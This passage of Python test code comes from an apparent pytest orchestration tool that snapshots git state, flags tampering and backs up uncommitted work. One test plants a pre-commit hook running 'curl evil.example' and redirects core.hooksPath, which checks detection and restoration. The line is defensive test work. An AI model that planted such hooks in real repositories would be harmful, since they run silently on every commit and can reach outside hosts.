    from pytest_orchestrator.loop.guard import inspect

    config_before = (repo / ".git" / "config").read_bytes()
    with Snapshot.take(repo) as snapshot:
        hook = write(repo, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil.example\n", 0o755)
        git(repo, "config", "core.hooksPath", "/tmp/elsewhere")

        changes = snapshot.diff()
        assert changes.git_files == ("config", "hooks/pre-commit")
        assert not changes.empty
        [check] = [c for c in inspect(changes) if c.name == "git-state"]
        assert check.risk == "critical" and ".git/hooks/pre-commit" in check.message

        snapshot.restore()
        assert not hook.exists()
        assert (repo / ".git" / "config").read_bytes() == config_before
        assert snapshot.diff().empty


def test_backup_saves_uncommitted_work_in_a_ref_and_touches_nothing(repo: Path) -> None:
    write(repo, "pkg/mod.py", "edited\n")
    write(repo, UNICODE, "edited unicode\n")
    git(repo, "add", "pkg/mod.py")  # staged, then edited again
    write(repo, "pkg/mod.py", "edited twice\n")
    # no identity, as on many CI runners: git must not need one to save the work
    git(repo, "config", "--unset", "user.name")
    git(repo, "config", "--unset", "user.email")
    git(repo, "config", "user.useConfigOnly", "true")
    before = (Snapshot.current_hash(repo), git_state(repo), git(repo, "stash", "list"))

    assert dirty_paths(repo) == sorted(
        ["gone.txt", "notes.txt", "pkg/mod.py", "todo/later.md", UNICODE]
    )
    commit = backup(repo, "refs/pytest-orchestrator/s1", "saved")

    assert (Snapshot.current_hash(repo), git_state(repo), git(repo, "stash", "list")) == before
    assert git(repo, "rev-parse", "refs/pytest-orchestrator/s1").strip() == commit
    assert git(repo, "rev-parse", f"{commit}^").strip() == git(repo, "rev-parse", "HEAD").strip()
    saved = set(git(repo, "ls-tree", "-r", "--name-only", "-z", commit).split("\0")) - {""}
    assert {"notes.txt", "todo/later.md", UNICODE, "pkg/mod.py"} <= saved
    assert "gone.txt" not in saved and "app.log" not in saved
    assert not any(p.startswith((".venv/", "build/")) for p in saved)
    assert git(repo, "show", f"{commit}:pkg/mod.py") == "edited twice\n"
    # what the user would run to get the work back after a loop kept an agent's edit
    write(repo, "pkg/mod.py", "the agent's version\n")
    (repo / "notes.txt").write_text("the agent's notes\n")
    git(repo / "pkg", "restore", f"--source={commit}", "--worktree", "--", ":/")  # as printed
    assert (repo / "pkg" / "mod.py").read_text() == "edited twice\n"
    assert (repo / "notes.txt").read_text() == "untracked notes\n"  # outside the cwd too
